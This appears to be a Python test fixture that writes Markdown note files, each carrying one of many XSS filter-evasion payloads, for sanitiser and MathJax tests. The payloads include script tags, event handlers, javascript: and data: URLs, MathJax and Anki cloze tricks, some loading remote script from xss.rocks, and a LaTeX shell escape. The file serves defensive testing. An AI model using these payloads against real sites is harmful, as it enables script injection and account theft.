"""The security corpus: hostile payloads in every part of a note, for the sanitiser and MathJax tests."""

from __future__ import annotations

from pathlib import Path

# OWASP filter-evasion style payloads: mixed case, entities, backticks, control characters in URLs,
# data: URLs, event handlers, SVG and MathML, Markdown links, images, autolinks and reference links,
# and MathJax macros that write HTML.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>t</td></tr></TABLE>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">d</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">d</DIV>",
    '<span style="color: red; background: url(javascript:alert(1))">s</span>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml">',
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    '<video><source onerror="javascript:alert(1)"></video>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<base href="javascript:alert(1)//">',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://example.com/" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](x.png)',
    "<javascript:alert(1)>",
    "[ref] and ![img][ref]\n\n[ref]: javascript:alert(1)",
    "$\\href{javascript:alert(1)}{click}$",
    "\\\\(\\href{javascript:alert(1)}{click}\\\\)",
    "$$\\class{x}{\\style{background:url(javascript:alert(1))}{y}}$$",
    "\\[\\cssId{a}{b} \\data{c=d}{e} \\require{action}\\]",
    # MathJax commands a blocklist missed, and HTML that steers MathJax (with allow_html).
    '$\\mmlToken{mi}[href=javascript:alert(1),style="position:fixed;inset:0;opacity:0"]{x}$',
    "$\\bbox[position:fixed;inset:0]{x}$ $\\unicode{x41}$ $\\toggle{a}{b}\\endtoggle$ $\\color{red;x:y}{z}$",
    "$\\newcommand{\\x}{\\href}\\x{javascript:alert(1)}{y}$",
    "\\(\\hr<wbr>ef{javascript:alert(1)}{click}\\)",
    '<code class="mathjax_process">\\(\\href{javascript:alert(1)}{x}\\)</code>',
    '<span class="fm-math">\\(\\href{javascript:alert(1)}{x}\\)</span>',
    '<span class="fm-math mathjax_process tex2jax_process">\\(\\mmlToken{mi}[href=javascript:alert(1)]{x}\\)</span>',
    '<div class="mathjax_process">\\[\\href{javascript:alert(1)}{x}\\]</div>',
    '<div class="fm-math">\\(\\href{javascript:alert(1)}{x}\\)</div>',
    '<div class="fm-math fm-math-display">\\[\\mmlToken{mi}[href=javascript:alert(1)]{x}\\]</div>',
    "[sound:../../x.mp3] [latex]\\immediate\\write18{touch /tmp/x}[/latex] [$]x[/$] [$$]y[/$$]",
    # Clozes: Anki rewrites cloze text inside formulas and attributes, and writes hints into the card.
    "{{c1::$\\href{javascript:alert(1)}{x}$}}",
    "$x = {{c1::\\href{javascript:alert(1)}{y}}}$",
    "{{c1::a::<img src=x onerror=alert(1)>}}",
    "{{c1::x $y}}$ \\(\\href{javascript:alert(1)}{z}\\)",
    '<a title="{{c1::x::&quot; onmouseover=&quot;alert(1)}}" href="https://x">t</a> {{c2::y}}',
    '{{c1::<span class="mathjax_process">}}\\(\\href{javascript:alert(1)}{x}\\)</span>',
    "\\{{c1::(}}\\href{javascript:alert(1)}{x}\\{{c2::)}}",
    # Markdown flavours: what they build comes from flashmark, their text passes the same allowlist.
    "> [!note] <img src=x onerror=alert(1)> $\\href{javascript:alert(1)}{x}$\n> body <script>alert(1)</script>",
    '![[javascript:alert(1).png|300]] ![[x.png|300" onerror="alert(1)]] [[a|<script>alert(1)</script>]]',
    "==<img src=x onerror=alert(1)>== x[^p]\n\n[^p]: <script>alert(1)</script> [x](javascript:alert(1))",
    "www.example.com/<script>alert(1)</script> %%<script>%% - [x] <svg onload=alert(1)>",
    # A folded answer: the summary and the body are text and Markdown, never raw attributes.
    '<details open ontoggle=alert(1)><summary onclick="alert(1)">答案</summary>\n\n<img src=x onerror=alert(1)>\n\n</details>',
]


def notes_file(n: int, payload: str) -> str:
    """One payload in every place a note takes text from: topic, title, answer, prompt, extra, code, math."""
    one_line = "\n" not in payload
    topic = f"# 话题 {n} {payload if one_line else ''}\n\n"
    title = f"## {payload} 标题 {n}\n\n答案 {n}。\n\n" if one_line else ""
    return (
        (f"---\ntopic: '{payload.replace(chr(39), chr(39) * 2)}' \ntags: [t{n}]\n---\n\n" if one_line else "")
        + topic
        + (
            f"## 答案 {n}\n\n{payload}\n\n"
            f"## 标签 {n}\n\n**题目：** {payload}\n\n**答案：** 答 {payload}\n\n**应用：** {payload}\n\n"
            f"{title}"
            f"## 代码 {n}\n\n```html\n{payload}\n```\n\n"
            f"## 数学 {n}\n\n$x$ {payload} $y$\n\n$$\n{payload}\n$$\n"
        )
    )


def write_corpus(content: Path) -> Path:
    """A content folder with one file per payload (and an image the payloads may name)."""
    content.mkdir(parents=True)
    for n, payload in enumerate(PAYLOADS):
        (content / f"p{n:02}.md").write_text(notes_file(n, payload), encoding="utf-8")
    (content / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 32)
    return content
